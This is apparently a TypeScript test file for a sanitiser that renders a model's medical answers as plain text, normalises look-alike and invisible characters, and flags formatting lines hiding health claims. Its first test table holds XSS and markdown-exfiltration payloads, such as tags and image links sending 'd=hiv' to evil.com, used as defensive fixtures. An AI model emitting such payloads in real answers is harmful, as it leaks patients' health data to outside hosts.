import type { Origin } from '@consilium/kernel';
import { describe, expect, it } from 'vitest';
import { answerLines } from './answer-lines.ts';
import { checkAnswer } from './check-answer.ts';
import { cleanText } from './clean-text.ts';

const shown = (text: string, origin: Origin = 'model') => {
  const { parts, claims } = checkAnswer([{ origin, text }], [], new Map());
  return { text: parts.map((part) => part.text).join('\n'), claims };
};

describe('what a model wrote, as plain words [A17]', () => {
  it.each([
    ['a tag within a tag', '<<b>img src=//evil.com?d=hiv>'],
    ['a tag deep within tags', `${'<'.repeat(40)}${'b>'.repeat(40)}img src=x onerror=y>`],
    ['a script within a tag', '<<b>script>alert(1)<</b>/script>'],
    ['a tag between the halves of a link', '[this]<b>(//evil.com?d=hiv)'],
    ['a link within tags', `[this]${'<'.repeat(40)}${'b>'.repeat(40)}(page?d=hiv)`],
    ['a definition', '[b]: //evil.com?d=1\nSee [b].'],
    ['a definition without slashes', '[b]: page?d=1\nSee [b].'],
    ['an image within tags', `!${'<'.repeat(40)}${'b>'.repeat(40)}[x](page?d=hiv)`],
    ['a tag in entities', '&lt;img src=//evil.com?d=hiv&gt;'],
    ['a tag in entities of entities', '&amp;lt;img src=//evil.com?d=hiv&amp;gt;'],
    ['an escaped link', '[this\\](a)\\[b](//evil.com?d=hiv)'],
    ['a mark between the halves of a link', '[this][fk3q7abc](page?d=hiv)'],
    ['a mark within a tag', '< [fk3q7abc]img src=x onerror=y>'],
  ])('opens nothing: %s', (_why, text) => {
    for (const origin of ['model', 'chart'] as const) {
      const { text: printed, claims } = shown(text, origin);
      for (const each of [printed, ...claims.map(({ sentence }) => sentence)]) {
        expect(each).not.toMatch(/<[a-z/!?]|\]\(|\]:|!\[|evil|&[#\w]+;/i);
      }
    }
  });

  it.each([
    ['letters of two scripts in one word', 'меtformin, Ηbа1c and 𝒶а', 'metformin, Ηba1c and aa'],
    ['a word of one script', 'метформин', 'метформин'],
    ['a look-alike among our own letters', 'dosaɡe', 'dosage'],
    ['digits of other scripts', '٣ ７ ㊿ 𝟗 Ⅳ', '3 7 50 9 IV'],
    ['unseen signs', 'no\u200b ris\u00adk\r\n', 'no risk\n'],
  ])('reads %s', (_, written, read) => {
    expect(cleanText(written)).toBe(read);
  });

  it.each(['HbA1c < 7 % is a usual target.', 'Many aim for <7 %.', 'An eGFR > 60 is common.', '> quoted'])(
    'keeps what is less or more: %s',
    (text) => {
      expect(cleanText(text)).toBe(text);
    },
  );

  it.each([
    ['Your INR was &#50;.1', 'Your INR was 2.1'],
    ['7\\.9 %', '7.9 %'],
    ['7\ufe0f\u20e3', '7'],
  ])('reads %s as it is shown', (text, clean) => {
    expect(cleanText(text)).toBe(clean);
  });
});

describe('lines that say nothing [A17]', () => {
  it.each(['```', '```json', '---', '***', '|---|:--|', '| - | - |'])('%s', (line) => {
    expect(answerLines(line)[0]?.kind).toBe('layout');
  });

  it.each([
    '```You have metastatic lung cancer.',
    '```json You have cancer.',
    '``` Your INR was 2.1.',
    `${'-'.repeat(200)} You have metastatic lung cancer.`,
    `|${'-'.repeat(250)}| You have cancer.`,
    '# You have cancer',
    '> ```You have cancer',
    '~~~You have cancer',
    '- [x] You have cancer',
    '| INR | 2.1 |',
    '# INR 2.1',
    'INR\n\n2.1',
    'INR:\n98. That is all.',
  ])('but not: %s', (text) => {
    const { claims } = shown(text, 'chart');
    expect(claims.some(({ status }) => status === 'removed')).toBe(true);
  });
});
